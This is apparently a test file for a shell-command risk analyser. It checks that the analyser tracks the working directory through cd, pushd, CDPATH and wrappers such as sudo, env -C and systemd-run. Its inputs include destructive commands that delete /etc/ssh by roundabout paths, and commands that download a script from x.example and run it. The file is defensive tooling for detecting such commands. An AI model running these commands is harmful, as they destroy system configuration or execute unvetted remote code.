import { describe, expect, it } from 'vitest';
import { assessRisk } from '../../../src/risk/assess-risk.js';
import { effectText } from '../../../src/shell/explain/effect-text.js';
import { analyse } from '../../../src/shell/understand.js';
import { effectsOf } from '../effects-of.js';

describe('the directory that a command is in', () => {
  it.each(['find /etc -name ssh -execdir rm -rf {} +', "find / -maxdepth 1 -name etc -execdir rm -rf etc/ssh ';'"])(
    'is where find finds something, for what runs there: %s',
    (command) => {
      const [effect] = analyse(command).effects;
      expect(effect).toMatchObject({ kind: 'delete', target: { pathClass: 'configuration' } });
    },
  );

  it.each([
    'rm -rf ~/../etc/ssh',
    'rm -rf "$HOME"/../etc/ssh',
    'cd; rm -rf ../etc/ssh',
    'cd ~/..; rm -rf etc/ssh',
    'cd ~/.. && cd etc && rm -rf ssh',
    'mv ~/../etc/ssh /tmp; rm -rf ~/../../etc/ssh',
  ])('may be below the root where it goes up from an unknown home: %s', (command) => {
    expect(effectsOf(command)).toContain('delete:remove /etc/ssh recursive force');
    const { score } = assessRisk(analyse(command));
    expect(score).toBeGreaterThanOrEqual(assessRisk(analyse('rm -rf /etc/ssh')).score);
  });

  it.each([
    'cd /etc; cd /tmp; rm -rf ~-/ssh',
    'cd /etc; rm -rf ~+/ssh',
    'cd /etc && cd /tmp && cd - && rm -rf ssh',
    'cd /etc; cd /tmp; cd "$OLDPWD"; rm -rf ssh',
    'pushd /etc; pushd /tmp; popd; rm -rf ssh',
    'pushd /etc; pushd /tmp; pushd; rm -rf ssh',
    'cd /tmp; CDPATH=/; cd etc && rm -rf ssh',
    'export CDPATH=/etc; cd ssh && rm -rf ../ssh',
    'cd -P /etc; rm -rf ssh',
    'LC_ALL=C cd /etc; rm -rf ssh',
    'CDPATH=/ cd etc && rm -rf ssh',
    'A=1 pushd /etc >/dev/null; rm -rf ssh',
    'A=1 eval "cd /etc"; rm -rf ssh',
    'A=1 export B=/etc/ssh; rm -rf $B',
    'A=/etc; A=/tmp true; rm -rf $A/ssh',
    'rm -rf /proc/*/root/etc/ssh',
    'rm -rf /proc/[1-9]/root/etc/ssh',
  ])('is followed back and forth: %s', (command) => {
    expect(effectsOf(command)).toContain('delete:remove /etc/ssh recursive force');
  });

  it.each([
    'env -C /etc rm -rf ssh',
    'env --chdir=/etc rm -rf ssh',
    'sudo -D /etc rm -rf ssh',
    'sudo --chdir=/etc sh -c "rm -rf ssh"',
    'systemd-run --working-directory=/etc rm -rf ssh',
    'systemd-run -p WorkingDirectory=-/etc rm -rf ssh',
    'start-stop-daemon --chdir /etc --start --exec /bin/rm -- -rf ssh',
    'run0 -D /etc rm -rf ssh',
    'parallel --wd /etc rm -rf ::: ssh',
    'unshare --wd=/etc rm -rf ssh',
    'daemonize -c /etc /bin/rm -rf ssh',
    'cd /; env -C etc rm -rf ssh',
  ])('is what a wrapper says: %s', (command) => {
    expect(
      effectsOf(command).filter((effect) => effect.startsWith('delete:remove /etc/ssh recursive force')),
    ).not.toEqual([]);
  });

  it.each([
    ['cd "$X"; rm x', 'delete:remove …/x dynamic'],
    ['cd "$X" && cd .. && rm x', 'delete:remove …/../x dynamic'],
    ['cd /srv/$app; rm -rf data', 'delete:remove /srv/…/data recursive force dynamic'],
    ['cd "$X/releases"; rm -rf old', 'delete:remove …/releases/old recursive force dynamic'],
    ['cd build; rm -rf x', 'delete:remove build/x recursive force'],
    ['cd build; cd ..; rm -rf x', 'delete:remove x recursive force'],
    ['cd ..; rm -rf x', 'delete:remove ../x recursive force'],
    ['cd a; cd b; cd -; rm x', 'delete:remove a/x'],
    ['if test -d a; then cd a; fi; rm x', 'delete:remove …/x dynamic'],
    ['cd a; rm "$PWD/x"', 'delete:remove …/a/x dynamic'],
    ['cd /etc; pushd +1; rm x', 'delete:remove …/x dynamic'],
    ['env -C "$X" rm x', 'delete:remove …/x dynamic'],
    ['env -C a rm x', 'delete:remove a/x'],
  ])('is told as far as it is known: %s', (command, effect) => {
    expect(effectsOf(command)).toContain(effect);
  });

  it('is never taken for the root, as a variable might be', () => {
    const [here, there] = ['cd "$X"; rm -rf etc', 'rm -rf "$X/etc"'].map((command) => analyse(command));
    expect(here?.effects.map(effectText)).toEqual(['deletes …/etc and all that is below it']);
    expect(there?.effects.map(effectText).join()).toContain('were it empty, /etc');
    if (here === undefined || there === undefined) return;
    expect(assessRisk(here).score).toBe(assessRisk(analyse('rm -rf etc')).score);
    expect(assessRisk(there).score).toBeGreaterThan(assessRisk(here).score);
  });

  it.each([
    'curl -o s http://x.example/s; cd "$X"; sh s',
    'curl -o "$X/s" http://x.example/s; cd "$X"; sh s',
    'cd "$X"; curl -o s http://x.example/s; sh "$X/s"',
    'cd a; curl -o s http://x.example/s; cd ..; sh a/s',
    'curl -o s http://x.example/s; cd "$PWD"; sh ./s',
  ])('does not lose what was downloaded: %s', (command) => {
    expect(effectsOf(command).filter((effect) => effect.startsWith('execute:downloaded'))).not.toEqual([]);
  });

  it.each([
    ["find / -name '*.log' -exec sh -c 'rm \"$0\"' {} \\;", 'delete:remove /**/*.log recursive'],
    ['find /etc -exec sh -c \'rm "$1"\' x {} \\;', 'delete:remove /etc/** recursive'],
    ['sh -c \'rm -rf "$1" "$0"\' /srv /etc', 'delete:remove /srv recursive force'],
  ])('and what a line is given as $0 and $1 keep their wildcards: %s', (command, effect) => {
    const analysis = analyse(command);
    expect(effectsOf(command)).toContain(effect);
    expect(assessRisk(analysis).score).toBeGreaterThanOrEqual(0.75);
  });

  it.each([
    ['cd /etc; cd /tmp; cat "~-/x"', 'read:read /tmp/~-/x'],
    ['cd /etc; CDPATH=/srv; cd ./ssh; cat x', 'read:read /etc/ssh/x'],
  ])('is not meant by what only looks like it: %s', (command, effect) => {
    expect(effectsOf(command)).toContain(effect);
  });

  it.each([
    ['systemd-run rm -rf etc', '/etc'],
    ['systemd-run --scope rm -rf x', '/here/x'],
    ['systemd-run --working-directory=/srv rm -rf x', '/srv/x'],
    ['systemd-run --user rm -rf x', '/home/alice/x'],
    ['sudo rm -rf x', '/here/x'],
    ['sudo -iu postgres rm -rf data', '/home/postgres/data'],
    ['sudo -i rm -rf x', '/root/x'],
    ["su - postgres -c 'rm -rf data'", '/home/postgres/data'],
    ["su postgres -c 'rm -rf x'", '/here/x'],
    ["runuser -l postgres -c 'rm -rf data'", '/home/postgres/data'],
    ['runuser -u postgres -- rm -rf x', '/here/x'],
    ['pkexec rm -rf x', '/root/x'],
    ['sudo -i -u "$U" rm -rf data', '…/data'],
  ])('is where a login or a service begins: %s', (command, path) => {
    const { effects } = analyse(command, { cwd: '/here', user: 'alice' });
    expect(effects.filter(({ kind }) => kind === 'delete').map(({ target }) => target)).toEqual([
      expect.objectContaining({ path }),
    ]);
  });
});
